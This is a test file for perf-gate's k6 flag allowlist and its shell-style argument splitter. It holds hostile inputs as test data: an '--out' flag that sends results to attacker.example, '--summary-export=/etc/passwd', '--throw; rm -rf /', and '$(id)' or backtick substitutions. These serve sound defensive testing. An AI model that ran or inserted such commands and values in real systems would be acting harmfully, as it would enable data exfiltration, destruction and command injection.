// k6.flags / input k6-flags: only flags that tune how k6 sends requests pass; anything that could
// leak the environment, write files, send results elsewhere or change the load is exit 2, named.
import { describe, expect, it } from 'vitest'
import { k6FlagProblem, splitK6Flags } from '../../../src/config/k6-flags.js'
import { parseConfig } from '../../../src/config/load.js'

const base = {
  name: 'demo',
  services: { echo: { image: 'perf-gate/echo:local', ports: [8080], wait: { log: 'ready' } } },
  profiles: [{ name: 'p', target: 'http://echo:8080/echo' }],
  scenarios: [{ name: 's', script: 'constant-vus', vus: 1 }],
}

describe('k6 flags', () => {
  it('passes safe flags, switches bare and values after "="', () => {
    for (const flag of [
      '--discard-response-bodies',
      '--no-connection-reuse',
      '-w',
      '--batch-per-host=8',
      '--dns=ttl=1m,select=random,policy=preferIPv4',
      '--tag=team=edge',
      '--compatibility-mode=base',
      '--user-agent=perf-gate test',
    ])
      expect(k6FlagProblem(flag), flag).toBeUndefined()
  })

  it('refuses outputs, the environment, files and load changes, saying why', () => {
    expect(k6FlagProblem('--out=influxdb=http://attacker.example:8086/k6')).toMatch(
      /"--out" is not allowed: k6 outputs could send the results to any host/,
    )
    expect(k6FlagProblem('-o')).toMatch(/"-o" is not allowed/)
    expect(k6FlagProblem('--include-system-env-vars')).toMatch(/runner's environment/)
    expect(k6FlagProblem('-e')).toMatch(/runner's environment/)
    expect(k6FlagProblem('--summary-export=/etc/passwd')).toMatch(/writes files/)
    expect(k6FlagProblem('--log-output=loki=http://x')).toMatch(/sends logs elsewhere/)
    expect(k6FlagProblem('--vus=100')).toMatch(/scenarios\[\]/)
    expect(k6FlagProblem('--no-thresholds')).toMatch(/summary and the thresholds/)
    expect(k6FlagProblem('--http-debug')).toMatch(/not on perf-gate's list of safe k6 flags \(--batch,/)
  })

  it('checks values', () => {
    expect(k6FlagProblem('--rps')).toBe('"--rps" needs a value: --rps=<a number>')
    expect(k6FlagProblem('--rps=fast')).toBe('"--rps": expected a number')
    expect(k6FlagProblem('--throw=true')).toBe('"--throw" takes no value')
    expect(k6FlagProblem('--tag=a b')).toBe('"--tag": expected NAME=VALUE')
  })

  it('splits the action input on spaces and new lines', () => {
    expect(splitK6Flags(' --throw\n--rps=100  --tag=a=b\n')).toEqual({
      flags: ['--throw', '--rps=100', '--tag=a=b'],
    })
  })

  it('names the config path of a refused flag and a malformed version (exit 2)', () => {
    expect(() =>
      parseConfig({ ...base, k6: { flags: ['--throw', '--out=json=/tmp/x'] } }, 'perf-gate.yml', {}),
    ).toThrow(/^perf-gate\.yml: k6\.flags\[1\]: "--out" is not allowed/)
    expect(() => parseConfig({ ...base, k6: { version: '1.8' } }, 'perf-gate.yml', {})).toThrow(
      'perf-gate.yml: k6.version: expected a k6 release such as "1.8.1"',
    )
    const config = parseConfig(
      { ...base, k6: { flags: ['--throw'], version: 'v1.7.0' } },
      'perf-gate.yml',
      {},
    )
    expect(config.k6).toEqual({ flags: ['--throw'], version: '1.7.0', segments: 1 })
    expect(parseConfig(base, 'perf-gate.yml', {}).k6).toEqual({ flags: [], segments: 1 })
  })
})

describe('splitK6Flags: shell-style quoting, nothing run or expanded', () => {
  it.each([
    [`--user-agent="perf gate/1.0 (ci)"`, ['--user-agent=perf gate/1.0 (ci)']],
    [`--user-agent='perf gate'`, ['--user-agent=perf gate']],
    [`'--user-agent=a b' --throw`, ['--user-agent=a b', '--throw']],
    [`--user-agent="say \\"hi\\""`, ['--user-agent=say "hi"']],
    [`--user-agent=a\\ b`, ['--user-agent=a b']],
    [`--user-agent='it'"'"'s'`, ["--user-agent=it's"]],
    [`--user-agent='$HOME \`id\`'`, ['--user-agent=$HOME `id`']],
    [`--block-hostnames=*.example.com`, ['--block-hostnames=*.example.com']],
    [`--throw \\\n  --verbose`, ['--throw', '--verbose']],
    [`# tuning for CI\n--batch=20 # per host\n--throw`, ['--batch=20', '--throw']],
    [`--tag=x#y`, ['--tag=x#y']],
    [`--user-agent=""`, ['--user-agent=']],
  ])('%s', (text, flags) => {
    expect(splitK6Flags(text)).toEqual({ flags })
  })

  it.each([
    [`--user-agent="a b`, /unterminated " quote/],
    [`--user-agent='a b`, /unterminated ' quote/],
    [`--throw; rm -rf /`, /";" at character 8 is a shell operator/],
    [`--throw && echo x`, /"&" at character 9 is a shell operator/],
    [`--throw | tee x`, /"\|" at character 9 is a shell operator/],
    [`--throw > out`, /">" at character 9 is a shell operator/],
    [`--user-agent=$HOME`, /"\$" at character 14 would be a substitution/],
    [`--user-agent="$(id)"`, /"\$" at character 15 would be a substitution/],
    [`--user-agent=\`id\``, /"`" at character 14 would be a substitution/],
    [`--user-agent=(x)`, /"\(" at character 14 is a shell operator/],
    [`--throw \\`, /ends in a backslash/],
  ])('refuses %s', (text, message) => {
    const result = splitK6Flags(text)
    expect(result).toEqual({ problem: expect.stringMatching(message) })
  })

  it('a quoted value passes the allowlist as one flag', () => {
    const result = splitK6Flags(`--user-agent="perf gate" --tag=team=edge`)
    expect('flags' in result && result.flags.map(k6FlagProblem)).toEqual([undefined, undefined])
  })
})
